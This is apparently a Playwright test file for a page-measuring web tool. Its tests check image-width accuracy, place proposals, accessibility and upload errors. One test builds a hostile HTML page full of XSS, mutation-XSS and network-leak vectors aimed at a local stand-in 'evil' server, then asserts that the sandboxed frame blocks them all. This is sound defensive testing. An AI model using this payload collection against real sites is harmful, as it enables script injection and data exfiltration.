// Measured places: what the sealed frame says of a page is what a plain load says, and nothing gets out of it.
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { resolve } from 'node:path';
import { zipSync, strToU8 } from 'fflate';
import { axeFindings, expect, saved, test } from './application.ts';
import { measuredFigures, plainWidths, serve, worstError } from '../bench/src/measuring.ts';

const PAGES = ['index.html', 'about.html', 'kiln-diary.html', 'shop.html', 'visiting.html'];

test('the demo’s five pages: every width within a pixel of a plain load, and every rule too', async ({
  page,
  browser,
  server,
  setId,
}) => {
  const site = await serve(resolve('demo/site'));
  try {
    await page.goto(`${server.address}/sets/${setId}/measure`);
    await page.getByRole('button', { name: 'Try Gullmoor’s site' }).click();
    for (const path of PAGES) {
      const figures = await measuredFigures(page, path);
      const windows = [...new Set(figures.map(({ window }) => window))];
      expect(windows.length, path).toBeGreaterThanOrEqual(40);
      expect(new Set(figures.map(({ number }) => number)).size, path).toBeGreaterThanOrEqual(4);
      const plain = await plainWidths(browser, `${site.address}${path}`, windows);
      expect(worstError(figures, plain), path).toBeLessThanOrEqual(1);
      // As many pictures are shown in a plain load as were measured.
      for (const [window, widths] of plain)
        expect(figures.filter((figure) => figure.window === window).length).toBe(
          widths.filter((width) => width >= 0.5).length,
        );
      for (const said of await page.getByText(/^The rule fits within /).allTextContents())
        expect(Number(/([\d.]+) px/.exec(said)![1]), said).toBeLessThanOrEqual(1);
    }
  } finally {
    site.close();
  }
});

test('proposals become places, with their names, and undo takes them away', async ({
  page,
  server,
  setId,
}) => {
  await page.goto(`${server.address}/sets/${setId}/measure`);
  await expect(page.getByRole('heading', { level: 1, name: 'Measure a page' })).toBeVisible();
  expect(await axeFindings(page), 'before a page is chosen').toEqual([]);
  await page.getByRole('button', { name: 'Try Gullmoor’s site' }).click();
  await measuredFigures(page, 'shop.html');
  const shelf = page.locator('[data-proposal]').filter({ hasText: '4 across with 16 px between' });
  await expect(shelf).toContainText('6 pictures');
  await shelf.getByRole('textbox').fill('Shop shelf');
  const leave = page
    .locator('[data-proposal]')
    .filter({ hasNotText: '4 across' })
    .getByRole('button', { name: 'Leave' });
  for (const button of await leave.all()) await button.click();
  for (const theme of ['day', 'dusk']) {
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: 800 });
      await page.evaluate((next) => (document.documentElement.dataset.theme = next), theme);
      expect(await axeFindings(page), `${theme} ${width}`).toEqual([]);
    }
  }
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.getByRole('button', { name: 'Take this place' }).click();
  const row = page.locator('[data-place="shop-shelf"]');
  await expect(row).toContainText('Shop shelf');
  await row.click();
  await expect(page.getByText(/shop\.html, in \d+ windows on .* agrees within/)).toBeVisible();
  await saved(page);
  await page.getByRole('button', { name: 'Undo' }).click();
  await expect(row).toHaveCount(0);
});

const DEEP = '<div>'.repeat(400) + '</div>'.repeat(400);

test('a hostile page reaches neither the application nor the network', async ({ page, server, setId }) => {
  const hits: string[] = [];
  const outside = createServer((request, response) => {
    hits.push(request.url!);
    response.writeHead(200, { 'access-control-allow-origin': '*' });
    response.end('parent.document.title = "taken"');
  });
  await new Promise<void>((done) => outside.listen(0, '127.0.0.1', done));
  const evil = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  const hostile = `<!doctype html><html manifest="${evil}/manifest"><head><base href="${evil}/base/"><title>x</title>
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="${evil}/a.css"><link rel="preload" as="image" href="${evil}/preload"><link rel="dns-prefetch" href="${evil}">
<link rel="prefetch" href="${evil}/prefetch"><link rel="preconnect" href="${evil}"><link rel="icon" href="${evil}/icon"><link rel="modulepreload" href="${evil}/m.js">
<style>@import "${evil}/b.css"; @import url(${evil}/c.css) screen; body{background:url(${evil}/bg);cursor:url(${evil}/cur),auto}
@font-face{font-family:x;src:url(${evil}/font)} p{font-family:x;list-style:url("${evil}/list");content:u\\72l(${evil}/escaped)} p::before{content:url('${evil}/before')}
@namespace url(${evil}/ns); :root{--x:url(${evil}/var)} p{background:var(--x)} p::after{content:image-set("${evil}/set" 1x)} </style>
<script>parent.document.title='taken';top.location='${evil}/top';localStorage.x=1;fetch('${evil}/fetch')</script>
<script src="${evil}/s.js"></script><script type="module">import '${evil}/mod.js'</script></head>
<body onload="fetch('${evil}/onload')" background="${evil}/old"><p>text</p>
<img src="${evil}/img.jpg" srcset="${evil}/set1.jpg 1x, ${evil}/set2.jpg 2x" onerror="parent.document.title='taken'"><img src="x" onerror="top.document.title='taken'">
<picture><source srcset="${evil}/source.jpg"><img src="pictures/a.png" alt=""></picture>
<input type="image" src="${evil}/input.png" formaction="${evil}/f"><form action="${evil}/form" method="post"><button autofocus onfocus="this.form.submit()">x</button></form>
<iframe src="${evil}/iframe"></iframe><iframe srcdoc="<script>top.document.title='taken'</script>"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
<video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio><a href="javascript:top.document.title='taken'" ping="${evil}/ping">x</a>
<svg><script>parent.document.title='taken'</script><image href="${evil}/svgimage"/><use href="${evil}/use.svg#x"/><foreignObject><img src="${evil}/foreign"></foreignObject><a xlink:href="javascript:1"><animate attributeName="href" values="${evil}"/></a></svg>
<math><annotation-xml encoding="text/html"><img src=x onerror="parent.document.title='taken'"></annotation-xml></math>
<noscript><p title="</noscript><img src=x onerror=parent.document.title='taken'>"></noscript><template><img src="${evil}/template"></template>
<style><!--</style><img src="${evil}/comment" onerror="parent.document.title='taken'">--></style><table background="${evil}/table"><td background="${evil}/td">${DEEP}</table>
<p style="background:url(${evil}/inline)" >x</p></body></html>`;
  const zip = zipSync({ 'index.html': strToU8(hostile), 'pictures/a.png': new Uint8Array([1, 2, 3]) });
  const foreign: string[] = [];
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol !== 'data:' && protocol !== 'blob:' && origin !== server.address)
      foreign.push(request.url());
  });
  page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  try {
    await page.goto(`${server.address}/sets/${setId}/measure`);
    const title = 'Measure a page · Kiln diary, autumn firing · Dusky Otter';
    await expect(page).toHaveTitle(title);
    await page
      .getByLabel('A page or a ZIP of a site')
      .setInputFiles({ name: 'site.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) });
    await expect(page.getByText(/^Looked at in \d+ windows/)).toBeVisible();
    await expect(
      page.frameLocator('iframe[title^="The page in a window of 1280"]').locator('#dusky-marks b').first(),
    ).toBeAttached();
    expect(await page.title()).toBe(title);
    expect(await page.evaluate(() => localStorage.getItem('x'))).toBeNull();
    expect(foreign).toEqual([]);
    expect(hits).toEqual([]);
    // The frame is an origin of its own: it has no cookies, no storage and no parent that could be read.
    const sealed = page.frames().find((frame) => new URL(frame.url()).pathname === '/measuring')!;
    expect(await sealed.evaluate(() => window.origin)).toBe('null');
    expect(
      await sealed.evaluate(() => {
        try {
          return window.parent.document.title;
        } catch (error) {
          return (error as Error).name;
        }
      }),
    ).toBe('SecurityError');
    expect(
      await sealed.evaluate(
        () => document.querySelectorAll('script, base, meta[http-equiv], [onload], [onerror]').length,
      ),
    ).toBe(0);
  } finally {
    outside.close();
  }
});

test('what can’t be measured is said, and another page can be chosen', async ({ page, server, setId }) => {
  await page.goto(`${server.address}/sets/${setId}/measure`);
  const input = page.getByLabel('A page or a ZIP of a site');
  const give = (name: string, buffer: Buffer) => input.setInputFiles({ name, mimeType: '', buffer });
  for (const [name, buffer, sentence] of [
    ['site.zip', Buffer.from('no zip'), 'damaged, or no ZIP file'],
    ['notes.txt', Buffer.from('x'), 'There is no page among these files'],
    ['huge.html', Buffer.alloc(9_000_000, 'x'), 'larger than 8 MB'],
    ['deep.html', Buffer.from(`<!doctype html>${'<i></i>'.repeat(70_000)}`), 'more than 60000 elements'],
    ['many.html', Buffer.from(`<!doctype html>${'<img>'.repeat(2000)}`), 'more than 1500 pictures'],
  ] as const) {
    await give(name, buffer);
    await expect(page.getByRole('alert'), name).toContainText(sentence);
    const another = page.getByRole('button', { name: 'Another site' });
    if (await another.isVisible()) await another.click();
  }
  await give('plain.html', Buffer.from('<p>No picture here'));
  await expect(page.getByText('No picture is shown on this page')).toBeVisible();
  await page.getByRole('button', { name: 'Another site' }).click();
  // A page alone, without its styles and pictures, in quirks mode.
  await give(
    'alone.html',
    Buffer.from(
      '<img src="gone.jpg" width="30%" alt="Gone"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="200" height="100">',
    ),
  );
  await expect(page.getByText('1 picture is not among the files')).toBeVisible();
  await expect(page.locator('[data-proposal]').filter({ hasText: '200px' })).toBeVisible();
});
